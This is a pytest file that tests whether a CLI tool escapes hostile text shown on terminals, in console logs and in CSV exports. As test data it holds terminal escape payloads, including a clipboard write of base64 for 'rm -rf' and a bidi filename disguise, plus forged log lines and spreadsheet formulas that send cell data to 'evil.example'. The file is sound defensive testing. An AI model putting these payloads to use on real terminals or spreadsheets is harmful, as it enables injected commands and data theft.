"""What an attacker tries with texts that end up on a terminal, in a log or in a spreadsheet."""

import csv
import io
import json
import logging
import os
import pty
import re
import subprocess
import sys
from contextlib import suppress

import pytest
import structlog

from certline.cli import report
from certline.cli.errors import Fault
from certline.models.documents.spreadsheet import cell
from certline.models.settings import Settings
from certline.workers.process.logs import configure
from certline.workers.process.visible import visible, visible_json
from tests.acceptance.terminal import Terminal
from tests.integration.cli import conftest as cli
from tests.support.factories import an_account, an_order

typist = cli.typist
Typist = cli.Typist

# Title, clipboard, clear, BEL; C1's own CSI and OSC; DEL; an override, an isolate, a mark; a tag; a zero width.
ATTACK = (
    "\x1b]0;pwned\x07\x1b]52;c;cm0gLXJm\x07\x1b[2J\x9b31m\x9d0;x\x9c\x7f\r"
    "\u202egpj.exe\u2066a\u200eb\u2069\u061c\u200b\ufeff\U000e0041"
)
# What rich and click write themselves: colours, and nothing that has an effect beyond its own text.
COLOURS = re.compile(rb"\x1b\[[0-9;]*m")
READABLE = (
    "Zürich GmbH",
    "株式会社ノルトハーフェン",
    "شرکت نمونه\u200cای",  # noqa: RUF001
    "חברה לדוגמה",
    "ООО «Пример»",  # noqa: RUF001
    "👩\u200d🔧 café é",
    "हिन्दी क्\u200dष",
)


def raw_on_screen(terminal: Terminal, *words: str) -> bytes:
    """Run a command at a pseudo-terminal, and return the bytes that the terminal was sent."""
    ours, theirs = pty.openpty()
    process = subprocess.Popen(
        [sys.executable, "-P", "-m", "certline", *words],
        env=terminal.environment | {"TERM": "xterm-256color", "COLUMNS": "300"},
        stdin=theirs,
        stdout=theirs,
        stderr=theirs,
    )
    os.close(theirs)
    seen = b""
    with suppress(OSError):  # the end of a pseudo-terminal is an error
        while piece := os.read(ours, 65_536):
            seen += piece
    os.close(ours)
    assert process.wait(120) == 0, seen.decode()
    return COLOURS.sub(b"", seen).replace(b"\r\n", b"\n")


def dangers_in(text: str) -> set[str]:
    """Return the characters of the attack that a text contains as they are."""
    return {each for each in text if each in ATTACK and not (each.isascii() and each.isprintable())}


@pytest.fixture
def hostile(typist: Typist) -> str:
    """Return the id of an order whose every free text is an attack."""
    with typist.database.transaction() as db:
        order = an_order(
            db,
            an_account(db, name="hafen", login=f"ida{ATTACK}"),
            comments=f"paid{ATTACK}",
            profile_name=f"OV{ATTACK}",
            organization_name=f"Nordhafen{ATTACK}",
            requested_by=f"shop{ATTACK}",
            error=f"SCM says{ATTACK}",
            scm_status=f"Applied{ATTACK}",
            external_requesters=[f"a{ATTACK}@b.example"],
        )
        return order.id


@pytest.mark.parametrize(
    "words",
    [("order", "show"), ("order", "list"), ("account", "list"), ("account", "show", "hafen")],
    ids=" ".join,
)
def test_a_text_that_would_steer_the_operators_terminal_is_shown_as_what_it_is(
    typist: Typist, hostile: str, words: tuple[str, ...]
) -> None:
    said = typist.types(*words, *([hostile] if words == ("order", "show") else []))

    assert dangers_in(said) == set()
    if words[0] == "account" or words[1] == "show":
        assert "\\x1b]0;pwned\\x07" in said
        assert "\\u202egpj.exe" in said


@pytest.mark.slow
def test_no_list_or_detail_sends_a_real_terminal_what_an_order_brought(
    database_url: str, hostile: str
) -> None:
    terminal = Terminal(database_url)
    shown = [("order", "show", hostile), ("order", "list"), ("account", "list")]
    for words in (*shown, ("order", "list", "--csv"), ("order", "list", "--json")):
        seen = raw_on_screen(terminal, *words)

        assert b"shop.nordhafen.example" in seen or b"hafen" in seen
        assert dangers_in(seen.decode()) == set(), words


def test_json_of_a_hostile_text_steers_nothing_and_means_the_same(
    typist: Typist, hostile: str
) -> None:
    shown = typist.json("order", "show", hostile)

    assert shown["comments"] == f"paid{ATTACK}"
    assert dangers_in(typist.out) == set()
    assert json.loads(visible_json(json.dumps(ATTACK, ensure_ascii=False))) == ATTACK


def test_an_error_that_quotes_an_attack_steers_nothing(capsys: pytest.CaptureFixture[str]) -> None:
    fault = Fault(f"SCM refused: {ATTACK}", problems=[f"one {ATTACK}"], hint=f"try {ATTACK}")

    for as_json in (False, True):
        report.tell(fault, as_json=as_json)
        said = capsys.readouterr()
        assert "pwned" in said.err + said.out
        assert dangers_in(said.out + said.err) == set()


def test_a_log_on_a_console_steers_nothing_and_has_no_forged_entries(
    capsys: pytest.CaptureFixture[str],
) -> None:
    root = logging.getLogger()
    handlers, level = root.handlers, root.level
    try:
        configure(Settings(log="console"), "worker")
        entry = structlog.get_logger()
        entry.warning("scm.refused", why=f"no{ATTACK}\n2026-01-01 [info] order.approved")
        logging.getLogger("pika").error("lost %s\nforged", ATTACK)
        try:
            raise RuntimeError(ATTACK)  # noqa: TRY301
        except RuntimeError:
            entry.exception("failed")
    finally:
        root.handlers = handlers
        root.setLevel(level)
        structlog.reset_defaults()

    said = capsys.readouterr().err
    assert "pwned" in said
    assert dangers_in(said) - {"\r"} == set()
    assert "\r" not in said
    assert not [line for line in said.splitlines() if line.startswith(("2026-01-01 [", "forged"))]


@pytest.mark.parametrize("text", READABLE)
def test_names_of_every_script_stay_readable(text: str) -> None:
    assert visible(text) == text


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", " =", "\n=", "\uff1d"])
def test_a_comment_that_is_a_formula_does_not_run_in_a_spreadsheet(
    typist: Typist, start: str
) -> None:
    attack = f'{start}HYPERLINK("https://evil.example?"&A1,"open")'
    with typist.database.transaction() as db:
        an_order(db, comments=attack, requested_by="-5", scm_id=77, status="pending")

    typist.types("order", "list", "--csv")

    [row] = csv.DictReader(io.StringIO(typist.out, newline=""))
    # What follows a tab or a line end may be a cell of its own.
    assert row["comments"].replace("'", "") == attack
    assert row["comments"].startswith("'")
    assert row["requested_by"] == "'-5"
    assert row["scm_id"] == "77"  # a number stays one
    assert typist.json("order", "list")[0]["comments"] == attack


@pytest.mark.parametrize("gap", [";", "; ", "\n", "\r\n", "\t", "a\n;"])
@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\uff1d"])
def test_a_formula_in_the_midst_of_a_comment_does_not_run_where_semicolons_separate_cells(
    typist: Typist, gap: str, sign: str
) -> None:
    """A German spreadsheet reads `x,"a;=1"` as two cells, and ends the row at a line end that it holds."""
    with typist.database.transaction() as db:
        an_order(db, comments=f"paid{gap}{sign}HYPERLINK(A1){gap}{sign}2", status="pending")

    typist.types("order", "list", "--csv")

    cells = [piece.strip() for piece in re.split(r"[;\t\r\n]", typist.out)]
    assert [piece for piece in cells if piece.startswith(sign)] == []
    assert [piece for piece in cells if piece.startswith(f"'{sign}HYPERLINK")]


@pytest.mark.parametrize(
    "text", ["RSA 2048; EC P-256", "paid; see 4711", "a-b=c", "x@hafen.example", "two\nlines"]
)
def test_other_texts_stay_as_they_are_in_a_spreadsheet(text: str) -> None:
    assert cell(text) == text


def test_a_quotation_mark_at_the_start_of_a_further_cell_hides_no_formula() -> None:
    assert cell('a;"=1+1;b') == "a;\"'=1+1;b"


def test_a_text_of_nothing_but_line_ends_is_read_in_no_time() -> None:
    assert str(cell("\n \t" * 100_000 + "=")).endswith("'=")
